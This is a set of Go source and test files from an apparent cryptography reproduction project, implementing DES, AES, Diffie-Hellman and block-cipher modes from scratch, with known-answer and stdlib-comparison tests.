		if _, err := NewTripleCipher(make([]byte, n)); err == nil {
			t.Errorf("NewTripleCipher accepted %d-byte key", n)
		}
	}
	if got := KeySizeError(7).Error(); got == "" {
		t.Error("empty KeySizeError message")
	}
}

// TestSubkeysDistinct ensures the key schedule produces 16 distinct
// subkeys for a non-degenerate key.
func TestSubkeysDistinct(t *testing.T) {
	c, _ := NewCipher([]byte{0x13, 0x34, 0x57, 0x79, 0x9B, 0xBC, 0xDF, 0xF1})
	seen := map[uint64]bool{}
	for i := 0; i < 16; i++ {
		k := c.Subkey(i)
		if k >= 1<<48 {
			t.Fatalf("subkey %d exceeds 48 bits", i)
		}
		if seen[k] {
			t.Fatalf("duplicate subkey %d", i)
		}
		seen[k] = true
	}
}

// TestSBoxNonlinearity spot-checks a handful of published S-box entries.
func TestSBoxNonlinearity(t *testing.T) {
	// S1 row 0 col 0 = 14; S8 row 3 col 15 = 11.
	if got := SBox(0, 0); got != 14 {
		t.Errorf("S1(0) = %d, want 14", got)
	}
	// in6 = 0b111111 → row 3, col 15.
	if got := SBox(7, 0x3f); got != 11 {
		t.Errorf("S8(0x3f) = %d, want 11", got)
	}
}

func BenchmarkEncrypt(b *testing.B) {
	c, _ := NewCipher(make([]byte, 8))
	buf := make([]byte, 8)
	b.SetBytes(8)
	for i := 0; i < b.N; i++ {
		c.Encrypt(buf, buf)
	}
}

func BenchmarkTripleEncrypt(b *testing.B) {
	c, _ := NewTripleCipher(make([]byte, 24))
	buf := make([]byte, 8)
	b.SetBytes(8)
	for i := 0; i < b.N; i++ {
		c.Encrypt(buf, buf)
	}
}
