package dh

import (
	"bytes"
	"math/big"
	"testing"

	"repro/internal/crypto/mp"
	"repro/internal/crypto/prng"
)

func TestOakley2Parameters(t *testing.T) {
	g := Oakley2()
	if g.P.BitLen() != 1024 {
		t.Fatalf("Oakley group 2 prime is %d bits, want 1024", g.P.BitLen())
	}
	if !g.P.ProbablyPrime(8) {
		t.Fatal("Oakley group 2 modulus is not prime")
	}
	// Safe prime: (p-1)/2 is also prime.
	q := new(big.Int).Rsh(new(big.Int).Sub(g.P, big.NewInt(1)), 1)
	if !q.ProbablyPrime(4) {
		t.Fatal("Oakley group 2 is not a safe prime")
	}
}

func testGroup(t *testing.T) *Group {
	t.Helper()
	g, err := TestGroup512(prng.NewDRBG([]byte("dh-group")))
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func TestKeyAgreement(t *testing.T) {
	g := testGroup(t)
	rng := prng.NewDRBG([]byte("agree"))
	alice, err := GenerateKeyPair(g, rng, nil)
	if err != nil {
		t.Fatal(err)
	}
	bob, err := GenerateKeyPair(g, rng, nil)
	if err != nil {
		t.Fatal(err)
	}
	s1, err := alice.SharedSecret(bob.Public, nil)
	if err != nil {
		t.Fatal(err)
	}
	s2, err := bob.SharedSecret(alice.Public, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(s1, s2) {
		t.Fatal("shared secrets disagree")
	}
	if len(s1) != (g.P.BitLen()+7)/8 {
		t.Fatalf("secret length %d, want %d", len(s1), (g.P.BitLen()+7)/8)
	}
}

func TestDistinctPairsDistinctSecrets(t *testing.T) {
	g := testGroup(t)
	rng := prng.NewDRBG([]byte("distinct"))
	a, _ := GenerateKeyPair(g, rng, nil)
	b, _ := GenerateKeyPair(g, rng, nil)
	c, _ := GenerateKeyPair(g, rng, nil)
	sab, _ := a.SharedSecret(b.Public, nil)
	sac, _ := a.SharedSecret(c.Public, nil)
	if bytes.Equal(sab, sac) {
		t.Fatal("different peers produced the same secret")
	}
}

func TestRejectsInvalidPublic(t *testing.T) {
	g := testGroup(t)
	kp, _ := GenerateKeyPair(g, prng.NewDRBG([]byte("x")), nil)
	for _, bad := range []*big.Int{
		big.NewInt(0),
		big.NewInt(1),
		new(big.Int).Sub(g.P, big.NewInt(1)),
		new(big.Int).Add(g.P, big.NewInt(5)),
	} {
		if _, err := kp.SharedSecret(bad, nil); err != ErrInvalidPublic {
			t.Errorf("public value %v: want ErrInvalidPublic, got %v", bad, err)
		}
	}
}

func TestMeterAccumulates(t *testing.T) {
	g := testGroup(t)
	var m mp.CycleMeter
	if _, err := GenerateKeyPair(g, prng.NewDRBG([]byte("m")), &m); err != nil {
		t.Fatal(err)
	}
	if m.Cycles() == 0 {
		t.Fatal("key generation accrued no simulated cycles")
	}
}

func TestDeterministicGivenSeed(t *testing.T) {
	g := testGroup(t)
	a1, _ := GenerateKeyPair(g, prng.NewDRBG([]byte("same")), nil)
	a2, _ := GenerateKeyPair(g, prng.NewDRBG([]byte("same")), nil)
	if a1.Private.Cmp(a2.Private) != 0 || a1.Public.Cmp(a2.Public) != 0 {
		t.Fatal("same seed should give same key pair")
	}
}

func BenchmarkSharedSecret512(b *testing.B) {
	g, err := TestGroup512(prng.NewDRBG([]byte("dh-group")))
	if err != nil {
		b.Fatal(err)
	}
	rng := prng.NewDRBG([]byte("bench"))
	alice, _ := GenerateKeyPair(g, rng, nil)
	bob, _ := GenerateKeyPair(g, rng, nil)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := alice.SharedSecret(bob.Public, nil); err != nil {
			b.Fatal(err)
		}
	}
}
