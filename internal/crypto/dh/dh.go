// Package dh implements finite-field Diffie-Hellman key agreement from
// scratch over the Montgomery engine in internal/crypto/mp.
//
// DH (and the KEA variant) is the alternative key-exchange algorithm the
// paper's SSL flexibility discussion lists next to RSA (Section 3.1), and
// "public key operations (RSA/DH)" are named as prime accelerator targets
// in Section 4.1.
package dh

import (
	"errors"
	"io"
	"math/big"

	"repro/internal/crypto/mp"
)

// Group is a Diffie-Hellman group: a prime modulus and a generator.
type Group struct {
	Name string
	P    *big.Int
	G    *big.Int
}

// oakley2Hex is the 1024-bit MODP prime of RFC 2409 (Oakley group 2),
// the group contemporaneous with the paper's protocols.
const oakley2Hex = "FFFFFFFFFFFFFFFFC90FDAA22168C234C4C6628B80DC1CD1" +
	"29024E088A67CC74020BBEA63B139B22514A08798E3404DD" +
	"EF9519B3CD3A431B302B0A6DF25F14374FE1356D6D51C245" +
	"E485B576625E7EC6F44C42E9A637ED6B0BFF5CB6F406B7ED" +
	"EE386BFB5A899FA5AE9F24117C4B1FE649286651ECE65381" +
	"FFFFFFFFFFFFFFFF"

// Oakley2 returns the 1024-bit MODP group (RFC 2409 group 2, generator 2).
func Oakley2() *Group {
	p, _ := new(big.Int).SetString(oakley2Hex, 16)
	return &Group{Name: "modp1024", P: p, G: big.NewInt(2)}
}

// testGroup512Hex is a 512-bit safe prime used by the fast test group.
// p = 2q+1 with q prime; generated once offline with this package's own
// prime search and frozen here for reproducibility.
var testGroupOnce *Group

// TestGroup512 returns a small safe-prime group for fast tests and
// examples. Not for real security margins — the paper's own protocols of
// 2003 used 512-768 bit "export" moduli in exactly this spirit.
func TestGroup512(rng io.Reader) (*Group, error) {
	if testGroupOnce != nil {
		return testGroupOnce, nil
	}
	g, err := generateSafeGroup(rng, 512)
	if err != nil {
		return nil, err
	}
	testGroupOnce = g
	return g, nil
}

func generateSafeGroup(rng io.Reader, bits int) (*Group, error) {
	buf := make([]byte, bits/8)
	one := big.NewInt(1)
	for {
		if _, err := io.ReadFull(rng, buf); err != nil {
			return nil, err
		}
		q := new(big.Int).SetBytes(buf)
		q.SetBit(q, bits-2, 1)
		q.SetBit(q, 0, 1)
		if !q.ProbablyPrime(16) {
			continue
		}
		p := new(big.Int).Lsh(q, 1)
		p.Add(p, one)
		if p.ProbablyPrime(16) {
			return &Group{Name: "test512", P: p, G: big.NewInt(2)}, nil
		}
	}
}

// KeyPair is a DH private/public key pair.
type KeyPair struct {
	Group   *Group
	Private *big.Int
	Public  *big.Int
}

// ErrInvalidPublic reports a peer public value outside (1, p-1).
var ErrInvalidPublic = errors.New("dh: invalid peer public value")

// GenerateKeyPair draws a private exponent from rng and computes the
// public value g^x mod p. meter (optional) accrues simulated cycles.
func GenerateKeyPair(g *Group, rng io.Reader, meter *mp.CycleMeter) (*KeyPair, error) {
	ctx, err := mp.NewMontCtx(g.P)
	if err != nil {
		return nil, err
	}
	buf := make([]byte, (g.P.BitLen()+7)/8)
	for {
		if _, err := io.ReadFull(rng, buf); err != nil {
			return nil, err
		}
		x := new(big.Int).SetBytes(buf)
		x.Mod(x, new(big.Int).Sub(g.P, big.NewInt(2)))
		x.Add(x, big.NewInt(2)) // x in [2, p-1)
		pub := ctx.ModExpWindow(g.G, x, meter)
		if validPublic(g, pub) {
			return &KeyPair{Group: g, Private: x, Public: pub}, nil
		}
	}
}

func validPublic(g *Group, y *big.Int) bool {
	if y.Cmp(big.NewInt(2)) < 0 {
		return false
	}
	max := new(big.Int).Sub(g.P, big.NewInt(1))
	return y.Cmp(max) < 0
}

// SharedSecret computes peerPublic^private mod p, validating the peer
// value first (the small-subgroup hygiene real stacks need).
func (kp *KeyPair) SharedSecret(peerPublic *big.Int, meter *mp.CycleMeter) ([]byte, error) {
	if !validPublic(kp.Group, peerPublic) {
		return nil, ErrInvalidPublic
	}
	ctx, err := mp.NewMontCtx(kp.Group.P)
	if err != nil {
		return nil, err
	}
	s := ctx.ModExpWindow(peerPublic, kp.Private, meter)
	size := (kp.Group.P.BitLen() + 7) / 8
	out := make([]byte, size)
	b := s.Bytes()
	copy(out[size-len(b):], b)
	return out, nil
}
