// Package aes implements the AES block cipher from scratch (FIPS 197),
// supporting 128-, 192- and 256-bit keys.
//
// The paper highlights AES as the then-new DES replacement that protocol
// revisions (TLS, June 2002) and hardware accelerators must absorb
// (Sections 3.1, 4.1) — the flexibility problem in one algorithm.
//
// The implementation is deliberately byte-oriented (SubBytes / ShiftRows /
// MixColumns as specified) rather than T-table optimized: it is the
// software baseline the paper's accelerator discussion starts from, and
// the S-box-output leakage point targeted by internal/attack/dpa.
package aes

import "fmt"

// BlockSize is the AES block size in bytes.
const BlockSize = 16

// KeySizeError reports an invalid key length.
type KeySizeError int

func (k KeySizeError) Error() string {
	return fmt.Sprintf("aes: invalid key size %d", int(k))
}

var (
	sbox    [256]byte
	invSbox [256]byte
)

// gfMul multiplies two elements of GF(2^8) modulo x^8+x^4+x^3+x+1.
func gfMul(a, b byte) byte {
	var p byte
	for b != 0 {
		if b&1 != 0 {
			p ^= a
		}
		hi := a & 0x80
		a <<= 1
		if hi != 0 {
			a ^= 0x1b
		}
		b >>= 1
	}
	return p
}

func init() {
	// Build the S-box from the GF(2^8) inverse and the affine transform,
	// rather than transcribing 256 constants.
	var inv [256]byte
	for a := 1; a < 256; a++ {
		for b := 1; b < 256; b++ {
			if gfMul(byte(a), byte(b)) == 1 {
				inv[a] = byte(b)
				break
			}
		}
	}
	for i := 0; i < 256; i++ {
		x := inv[i]
		s := x ^ rotl8(x, 1) ^ rotl8(x, 2) ^ rotl8(x, 3) ^ rotl8(x, 4) ^ 0x63
		sbox[i] = s
		invSbox[s] = byte(i)
	}
}

func rotl8(b byte, n uint) byte { return b<<n | b>>(8-n) }

// SBox returns the AES S-box value for b. Exported for the DPA attack
// model, which predicts the Hamming weight of first-round S-box outputs.
func SBox(b byte) byte { return sbox[b] }

// Cipher is an AES block cipher instance.
type Cipher struct {
	enc    [][4][4]byte // round keys as state-shaped matrices
	rounds int
}

// NewCipher creates an AES cipher from a 16-, 24- or 32-byte key.
func NewCipher(key []byte) (*Cipher, error) {
	var rounds int
	switch len(key) {
	case 16:
		rounds = 10
	case 24:
		rounds = 12
	case 32:
		rounds = 14
	default:
		return nil, KeySizeError(len(key))
	}
	c := &Cipher{rounds: rounds}
	c.expandKey(key)
	return c, nil
}

// BlockSize returns the cipher block size (16).
func (c *Cipher) BlockSize() int { return BlockSize }

func (c *Cipher) expandKey(key []byte) {
	nk := len(key) / 4
	nw := 4 * (c.rounds + 1)
	w := make([][4]byte, nw)
	for i := 0; i < nk; i++ {
		copy(w[i][:], key[4*i:4*i+4])
	}
	rcon := byte(1)
	for i := nk; i < nw; i++ {
		t := w[i-1]
		if i%nk == 0 {
			t = [4]byte{sbox[t[1]] ^ rcon, sbox[t[2]], sbox[t[3]], sbox[t[0]]}
			rcon = gfMul(rcon, 2)
		} else if nk > 6 && i%nk == 4 {
			t = [4]byte{sbox[t[0]], sbox[t[1]], sbox[t[2]], sbox[t[3]]}
		}
		for j := 0; j < 4; j++ {
			w[i][j] = w[i-nk][j] ^ t[j]
		}
	}
	c.enc = make([][4][4]byte, c.rounds+1)
	for r := 0; r <= c.rounds; r++ {
		for col := 0; col < 4; col++ {
			for row := 0; row < 4; row++ {
				c.enc[r][row][col] = w[4*r+col][row]
			}
		}
	}
}

type state [4][4]byte

func loadState(src []byte) state {
	var s state
	for i := 0; i < 16; i++ {
		s[i%4][i/4] = src[i]
	}
	return s
}

func (s *state) store(dst []byte) {
	for i := 0; i < 16; i++ {
		dst[i] = s[i%4][i/4]
	}
}

func (s *state) addRoundKey(rk *[4][4]byte) {
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			s[r][c] ^= rk[r][c]
		}
	}
}

func (s *state) subBytes() {
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			s[r][c] = sbox[s[r][c]]
		}
	}
}

func (s *state) invSubBytes() {
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			s[r][c] = invSbox[s[r][c]]
		}
	}
}

func (s *state) shiftRows() {
	for r := 1; r < 4; r++ {
		var row [4]byte
		for c := 0; c < 4; c++ {
			row[c] = s[r][(c+r)%4]
		}
		s[r] = row
	}
}

func (s *state) invShiftRows() {
	for r := 1; r < 4; r++ {
		var row [4]byte
		for c := 0; c < 4; c++ {
			row[(c+r)%4] = s[r][c]
		}
		s[r] = row
	}
}

func (s *state) mixColumns() {
	for c := 0; c < 4; c++ {
		a0, a1, a2, a3 := s[0][c], s[1][c], s[2][c], s[3][c]
		s[0][c] = gfMul(a0, 2) ^ gfMul(a1, 3) ^ a2 ^ a3
		s[1][c] = a0 ^ gfMul(a1, 2) ^ gfMul(a2, 3) ^ a3
		s[2][c] = a0 ^ a1 ^ gfMul(a2, 2) ^ gfMul(a3, 3)
		s[3][c] = gfMul(a0, 3) ^ a1 ^ a2 ^ gfMul(a3, 2)
	}
}

func (s *state) invMixColumns() {
	for c := 0; c < 4; c++ {
		a0, a1, a2, a3 := s[0][c], s[1][c], s[2][c], s[3][c]
		s[0][c] = gfMul(a0, 14) ^ gfMul(a1, 11) ^ gfMul(a2, 13) ^ gfMul(a3, 9)
		s[1][c] = gfMul(a0, 9) ^ gfMul(a1, 14) ^ gfMul(a2, 11) ^ gfMul(a3, 13)
		s[2][c] = gfMul(a0, 13) ^ gfMul(a1, 9) ^ gfMul(a2, 14) ^ gfMul(a3, 11)
		s[3][c] = gfMul(a0, 11) ^ gfMul(a1, 13) ^ gfMul(a2, 9) ^ gfMul(a3, 14)
	}
}

// Encrypt encrypts the 16-byte block src into dst.
func (c *Cipher) Encrypt(dst, src []byte) {
	s := loadState(src)
	s.addRoundKey(&c.enc[0])
	for r := 1; r < c.rounds; r++ {
		s.subBytes()
		s.shiftRows()
		s.mixColumns()
		s.addRoundKey(&c.enc[r])
	}
	s.subBytes()
	s.shiftRows()
	s.addRoundKey(&c.enc[c.rounds])
	s.store(dst)
}

// Decrypt decrypts the 16-byte block src into dst.
func (c *Cipher) Decrypt(dst, src []byte) {
	s := loadState(src)
	s.addRoundKey(&c.enc[c.rounds])
	for r := c.rounds - 1; r > 0; r-- {
		s.invShiftRows()
		s.invSubBytes()
		s.addRoundKey(&c.enc[r])
		s.invMixColumns()
	}
	s.invShiftRows()
	s.invSubBytes()
	s.addRoundKey(&c.enc[0])
	s.store(dst)
}
