package aes

import (
	"bytes"
	stdaes "crypto/aes"
	"encoding/hex"
	"math/rand"
	"testing"
	"testing/quick"
)

// FIPS 197 Appendix C example vectors for all three key sizes.
var fipsVectors = []struct {
	key, pt, ct string
}{
	{
		"000102030405060708090a0b0c0d0e0f",
		"00112233445566778899aabbccddeeff",
		"69c4e0d86a7b0430d8cdb78070b4c55a",
	},
	{
		"000102030405060708090a0b0c0d0e0f1011121314151617",
		"00112233445566778899aabbccddeeff",
		"dda97ca4864cdfe06eaf70a0ec0d7191",
	},
	{
		"000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f",
		"00112233445566778899aabbccddeeff",
		"8ea2b7ca516745bfeafc49904b496089",
	},
}

func TestFIPSVectors(t *testing.T) {
	for _, v := range fipsVectors {
		key, _ := hex.DecodeString(v.key)
		pt, _ := hex.DecodeString(v.pt)
		want, _ := hex.DecodeString(v.ct)
		c, err := NewCipher(key)
		if err != nil {
			t.Fatal(err)
		}
		got := make([]byte, 16)
		c.Encrypt(got, pt)
		if !bytes.Equal(got, want) {
			t.Errorf("AES-%d: encrypt = %x, want %x", len(key)*8, got, want)
			continue
		}
		back := make([]byte, 16)
		c.Decrypt(back, got)
		if !bytes.Equal(back, pt) {
			t.Errorf("AES-%d: decrypt roundtrip failed", len(key)*8)
		}
	}
}

func TestAgainstStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for _, klen := range []int{16, 24, 32} {
		for i := 0; i < 100; i++ {
			key := make([]byte, klen)
			pt := make([]byte, 16)
			rng.Read(key)
			rng.Read(pt)
			ours, err := NewCipher(key)
			if err != nil {
				t.Fatal(err)
			}
			ref, err := stdaes.NewCipher(key)
			if err != nil {
				t.Fatal(err)
			}
			got := make([]byte, 16)
			want := make([]byte, 16)
			ours.Encrypt(got, pt)
			ref.Encrypt(want, pt)
			if !bytes.Equal(got, want) {
				t.Fatalf("AES-%d key %x: encrypt mismatch", klen*8, key)
			}
			back := make([]byte, 16)
			ours.Decrypt(back, got)
			if !bytes.Equal(back, pt) {
				t.Fatalf("AES-%d: roundtrip failed", klen*8)
			}
		}
	}
}

func TestRoundtripProperty(t *testing.T) {
	f := func(key [16]byte, block [16]byte) bool {
		c, err := NewCipher(key[:])
		if err != nil {
			return false
		}
		ct := make([]byte, 16)
		pt := make([]byte, 16)
		c.Encrypt(ct, block[:])
		c.Decrypt(pt, ct)
		return bytes.Equal(pt, block[:])
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// TestSBoxProperties checks the generated S-box against its defining
// algebraic properties and two published entries.
func TestSBoxProperties(t *testing.T) {
	if SBox(0x00) != 0x63 {
		t.Errorf("SBox(0x00) = %#x, want 0x63", SBox(0x00))
	}
	if SBox(0x53) != 0xed {
		t.Errorf("SBox(0x53) = %#x, want 0xed", SBox(0x53))
	}
	// Bijectivity and no fixed points (including anti-fixed points).
	var seen [256]bool
	for i := 0; i < 256; i++ {
		s := SBox(byte(i))
		if seen[s] {
			t.Fatalf("S-box not a bijection at %d", i)
		}
		seen[s] = true
		if s == byte(i) {
			t.Fatalf("S-box fixed point at %#x", i)
		}
		if s == byte(i)^0xff {
			t.Fatalf("S-box anti-fixed point at %#x", i)
		}
		if invSbox[s] != byte(i) {
			t.Fatalf("inverse S-box mismatch at %#x", i)
		}
	}
}

func TestKeySizeErrors(t *testing.T) {
	for _, n := range []int{0, 15, 17, 31, 33} {
		if _, err := NewCipher(make([]byte, n)); err == nil {
			t.Errorf("accepted %d-byte key", n)
		}
	}
	if KeySizeError(3).Error() == "" {
		t.Error("empty error message")
	}
}

func TestGFMul(t *testing.T) {
	// {57} • {83} = {c1} from the FIPS 197 example.
	if got := gfMul(0x57, 0x83); got != 0xc1 {
		t.Fatalf("gfMul(0x57,0x83) = %#x, want 0xc1", got)
	}
	// Commutativity property.
	f := func(a, b byte) bool { return gfMul(a, b) == gfMul(b, a) }
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkEncrypt(b *testing.B) {
	c, _ := NewCipher(make([]byte, 16))
	buf := make([]byte, 16)
	b.SetBytes(16)
	for i := 0; i < b.N; i++ {
		c.Encrypt(buf, buf)
	}
}
