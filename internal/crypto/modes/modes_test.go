package modes

import (
	"bytes"
	stdaes "crypto/aes"
	stdcipher "crypto/cipher"
	"math/rand"
	"testing"
	"testing/quick"

	"repro/internal/crypto/aes"
	"repro/internal/crypto/des"
)

func mustAES(t *testing.T, key []byte) Block {
	c, err := aes.NewCipher(key)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestPadUnpadProperty(t *testing.T) {
	f := func(data []byte) bool {
		for _, bs := range []int{8, 16} {
			padded := Pad(data, bs)
			if len(padded)%bs != 0 || len(padded) <= len(data) {
				return false
			}
			out, err := Unpad(padded, bs)
			if err != nil || !bytes.Equal(out, data) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestUnpadRejectsCorrupt(t *testing.T) {
	cases := [][]byte{
		{},
		{1, 2, 3},                // not block aligned
		{0, 0, 0, 0, 0, 0, 0, 0}, // zero pad byte
		{1, 2, 3, 4, 5, 6, 7, 9}, // pad byte > block size
		{1, 2, 3, 4, 5, 6, 2, 3}, // inconsistent padding
	}
	for i, c := range cases {
		if _, err := Unpad(c, 8); err == nil {
			t.Errorf("case %d: Unpad accepted corrupt padding %v", i, c)
		}
	}
}

func TestECBRoundtrip(t *testing.T) {
	key := make([]byte, 16)
	c := mustAES(t, key)
	pt := Pad([]byte("electronic codebook mode test"), 16)
	ct, err := EncryptECB(c, pt)
	if err != nil {
		t.Fatal(err)
	}
	back, err := DecryptECB(c, ct)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(back, pt) {
		t.Fatal("ECB roundtrip failed")
	}
	// ECB leaks equal blocks — the property that motivates CBC.
	pt2 := bytes.Repeat([]byte{0xab}, 32)
	ct2, _ := EncryptECB(c, pt2)
	if !bytes.Equal(ct2[:16], ct2[16:]) {
		t.Fatal("ECB should encrypt equal blocks identically")
	}
}

func TestCBCAgainstStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 50; i++ {
		key := make([]byte, 16)
		iv := make([]byte, 16)
		pt := make([]byte, 16*(1+rng.Intn(8)))
		rng.Read(key)
		rng.Read(iv)
		rng.Read(pt)

		ours := mustAES(t, key)
		got, err := EncryptCBC(ours, iv, pt)
		if err != nil {
			t.Fatal(err)
		}
		ref, _ := stdaes.NewCipher(key)
		want := make([]byte, len(pt))
		stdcipher.NewCBCEncrypter(ref, iv).CryptBlocks(want, pt)
		if !bytes.Equal(got, want) {
			t.Fatalf("CBC encrypt mismatch with stdlib (iter %d)", i)
		}
		back, err := DecryptCBC(ours, iv, got)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(back, pt) {
			t.Fatal("CBC roundtrip failed")
		}
	}
}

func TestCBCHidesEqualBlocks(t *testing.T) {
	c := mustAES(t, make([]byte, 16))
	iv := make([]byte, 16)
	iv[0] = 1
	pt := bytes.Repeat([]byte{0xab}, 32)
	ct, _ := EncryptCBC(c, iv, pt)
	if bytes.Equal(ct[:16], ct[16:]) {
		t.Fatal("CBC must not encrypt equal blocks identically")
	}
}

func TestCBCWithDES(t *testing.T) {
	c, err := des.NewTripleCipher(make([]byte, 24))
	if err != nil {
		t.Fatal(err)
	}
	iv := []byte{1, 2, 3, 4, 5, 6, 7, 8}
	pt := Pad([]byte("3DES-CBC is the paper's reference bulk cipher"), 8)
	ct, err := EncryptCBC(c, iv, pt)
	if err != nil {
		t.Fatal(err)
	}
	back, err := DecryptCBC(c, iv, ct)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(back, pt) {
		t.Fatal("3DES-CBC roundtrip failed")
	}
}

func TestCBCIntoMatchesAllocatingAndInPlace(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	key := make([]byte, 16)
	iv := make([]byte, 16)
	rng.Read(key)
	rng.Read(iv)
	c := mustAES(t, key)
	for _, blocks := range []int{1, 2, 7} {
		src := make([]byte, 16*blocks)
		rng.Read(src)
		want, err := EncryptCBC(c, iv, src)
		if err != nil {
			t.Fatal(err)
		}
		dst := make([]byte, len(src))
		if err := EncryptCBCInto(c, iv, src, dst); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(dst, want) {
			t.Fatalf("EncryptCBCInto differs from EncryptCBC (%d blocks)", blocks)
		}
		// In-place encryption.
		inplace := append([]byte{}, src...)
		if err := EncryptCBCInto(c, iv, inplace, inplace); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(inplace, want) {
			t.Fatalf("in-place EncryptCBCInto differs (%d blocks)", blocks)
		}
		// Decrypt back, allocating, Into, and in-place.
		back, err := DecryptCBC(c, iv, want)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(back, src) {
			t.Fatal("DecryptCBC did not invert EncryptCBC")
		}
		dback := make([]byte, len(want))
		if err := DecryptCBCInto(c, iv, want, dback); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(dback, src) {
			t.Fatalf("DecryptCBCInto differs (%d blocks)", blocks)
		}
		ip := append([]byte{}, want...)
		if err := DecryptCBCInto(c, iv, ip, ip); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(ip, src) {
			t.Fatalf("in-place DecryptCBCInto differs (%d blocks)", blocks)
		}
	}
}

func TestCBCIntoShortDst(t *testing.T) {
	key := make([]byte, 16)
	c := mustAES(t, key)
	iv := make([]byte, 16)
	src := make([]byte, 32)
	if err := EncryptCBCInto(c, iv, src, make([]byte, 16)); err == nil {
		t.Fatal("EncryptCBCInto accepted short dst")
	}
	if err := DecryptCBCInto(c, iv, src, make([]byte, 16)); err == nil {
		t.Fatal("DecryptCBCInto accepted short dst")
	}
}

func TestCBCErrors(t *testing.T) {
	c := mustAES(t, make([]byte, 16))
	if _, err := EncryptCBC(c, make([]byte, 8), make([]byte, 16)); err == nil {
		t.Error("accepted short IV")
	}
	if _, err := EncryptCBC(c, make([]byte, 16), make([]byte, 15)); err == nil {
		t.Error("accepted unaligned input")
	}
	if _, err := DecryptCBC(c, make([]byte, 16), make([]byte, 15)); err == nil {
		t.Error("decrypt accepted unaligned input")
	}
	if _, err := EncryptECB(c, make([]byte, 15)); err == nil {
		t.Error("ECB accepted unaligned input")
	}
}

func TestCTRAgainstStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	for i := 0; i < 50; i++ {
		key := make([]byte, 16)
		iv := make([]byte, 16)
		pt := make([]byte, rng.Intn(200))
		rng.Read(key)
		rng.Read(iv)
		rng.Read(pt)

		ours := mustAES(t, key)
		ctr, err := NewCTR(ours, iv)
		if err != nil {
			t.Fatal(err)
		}
		got := make([]byte, len(pt))
		ctr.XORKeyStream(got, pt)

		ref, _ := stdaes.NewCipher(key)
		want := make([]byte, len(pt))
		stdcipher.NewCTR(ref, iv).XORKeyStream(want, pt)
		if !bytes.Equal(got, want) {
			t.Fatalf("CTR mismatch with stdlib (iter %d, len %d)", i, len(pt))
		}
	}
}

func TestCTRCounterWraps(t *testing.T) {
	c := mustAES(t, make([]byte, 16))
	iv := bytes.Repeat([]byte{0xff}, 16) // next increment wraps to zero
	ctr, _ := NewCTR(c, iv)
	buf := make([]byte, 48)
	ctr.XORKeyStream(buf, buf)

	ref, _ := stdaes.NewCipher(make([]byte, 16))
	want := make([]byte, 48)
	stdcipher.NewCTR(ref, iv).XORKeyStream(want, make([]byte, 48))
	if !bytes.Equal(buf, want) {
		t.Fatal("CTR wraparound mismatch with stdlib")
	}
}

func TestCTRSplitStream(t *testing.T) {
	c := mustAES(t, make([]byte, 16))
	iv := make([]byte, 16)
	one, _ := NewCTR(c, iv)
	two, _ := NewCTR(c, iv)
	msg := make([]byte, 100)
	a := make([]byte, 100)
	one.XORKeyStream(a, msg)
	b := make([]byte, 0, 100)
	tmp := make([]byte, 9)
	for off := 0; off < 100; {
		n := 9
		if off+n > 100 {
			n = 100 - off
		}
		two.XORKeyStream(tmp[:n], msg[off:off+n])
		b = append(b, tmp[:n]...)
		off += n
	}
	if !bytes.Equal(a, b) {
		t.Fatal("split CTR keystream differs")
	}
}

func TestNewCTRBadIV(t *testing.T) {
	c := mustAES(t, make([]byte, 16))
	if _, err := NewCTR(c, make([]byte, 8)); err == nil {
		t.Fatal("NewCTR accepted wrong-size IV")
	}
}
