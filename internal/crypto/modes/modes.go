// Package modes implements block-cipher modes of operation (ECB, CBC, CTR)
// and PKCS#7 padding over any block cipher in this repository.
//
// The record layers of the protocol substrates (internal/wtls,
// internal/esp) compose these modes with the negotiated cipher, mirroring
// the protocol-flexibility requirement of Section 3.1.
package modes

import (
	"errors"
	"fmt"

	"repro/internal/crypto/bitutil"
	"repro/internal/obs"
)

// Static metric handles: one counter pair (ops, bytes) per mode and
// direction. Disarmed (the default) each update is a flag check.
var (
	mECBEncOps   = obs.C("crypto.modes.ecb_encrypt_ops")
	mECBEncBytes = obs.C("crypto.modes.ecb_encrypt_bytes")
	mECBDecOps   = obs.C("crypto.modes.ecb_decrypt_ops")
	mECBDecBytes = obs.C("crypto.modes.ecb_decrypt_bytes")
	mCBCEncOps   = obs.C("crypto.modes.cbc_encrypt_ops")
	mCBCEncBytes = obs.C("crypto.modes.cbc_encrypt_bytes")
	mCBCDecOps   = obs.C("crypto.modes.cbc_decrypt_ops")
	mCBCDecBytes = obs.C("crypto.modes.cbc_decrypt_bytes")
	mCTROps      = obs.C("crypto.modes.ctr_ops")
	mCTRBytes    = obs.C("crypto.modes.ctr_bytes")
	mPadErrors   = obs.C("crypto.modes.pad_errors")
)

// Block is the block-cipher interface shared by des, aes and rc2. It is
// intentionally identical in shape to crypto/cipher.Block.
type Block interface {
	BlockSize() int
	Encrypt(dst, src []byte)
	Decrypt(dst, src []byte)
}

// ErrNotBlockAligned reports input whose length is not a multiple of the
// cipher block size.
var ErrNotBlockAligned = errors.New("modes: input not a multiple of the block size")

// ErrBadPadding reports invalid PKCS#7 padding on decryption.
